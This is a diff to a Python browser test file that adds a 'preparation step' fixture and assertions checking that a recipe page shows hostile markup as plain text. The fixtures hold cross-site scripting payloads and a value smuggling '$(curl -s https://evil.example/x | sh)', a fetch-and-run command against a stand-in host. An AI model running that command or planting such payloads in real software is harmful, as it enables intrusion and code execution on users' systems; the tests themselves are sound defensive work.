@@ -80,6 +80,17 @@ LINKS = (
 WITHHELD = "<img src=x onerror=alert(15)> $(curl -s https://evil.example/x | sh)"
 CONDITIONAL = ("<script>alert(16)</script>", 'if [ "<iframe src=https://evil.example/frame>" ]')
 COMMIT = "a" * 40
+# A preparation step: what it does, its commands, the session typed in a container and its notes and
+# input, each carrying markup; the page shows each as text and prepare.sh as the file's text.
+PREPARATION = {
+    "what": "<script>alert(17)</script> Build the container",
+    "file": "run.sh",
+    "lines": [3, 4],
+    "commands": "echo '<img src=x onerror=alert(18)>'  # <iframe src=https://evil.example/frame>\n",
+    "session": 'echo "<script>alert(19)</script>"\n',
+    "inputs": [{"name": "<registry login>", "description": "<img src=x onerror=alert(20)>", "kind": "account"}],
+    "notes": f'<script>alert(21)</script> {EVIL}/"onmouseover="alert(22)',
+}
 
 
 def _set(data: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
@@ -123,6 +134,7 @@ def hostile_site(
             "command": "bash run.sh\n",
             "inputs": [],
             "withheld": [{"name": "LD_PRELOAD", "value": WITHHELD, "file": "run.sh", "line": 1}],
+            "preparation": [PREPARATION],
             "conditional": [
                 {
                     "name": "NCCL_DEBUG",
@@ -201,6 +213,11 @@ def test_the_recipe_text_is_shown_as_text(tab: Any, hostile_site: str) -> None:
     # The launch script is the file's text, byte for byte, as the reader copies it.
     script = tab.eval_on_selector_all("article pre code", "codes => codes.map(c => c.textContent)")
     assert any(code == ALL + "\n" + FENCE_IN_CODE_SAMPLE.replace("    ", "") for code in script)
+    # So are a preparation step's commands and session, and what it does, its notes and its input.
+    assert PREPARATION["commands"] in script and PREPARATION["session"] in script
+    assert f"Step 1: {PREPARATION['what']} (run.sh lines 3\u20134)" in text
+    assert PREPARATION["notes"] in text and "<img src=x onerror=alert(20)>" in text
+    assert any(code.startswith("#!/usr/bin/env bash") and PREPARATION["commands"] in code for code in script)
 
 
 def test_the_policy_stops_a_script_that_reaches_a_page_anyway(browser_context: Any, hostile_site: str) -> None:
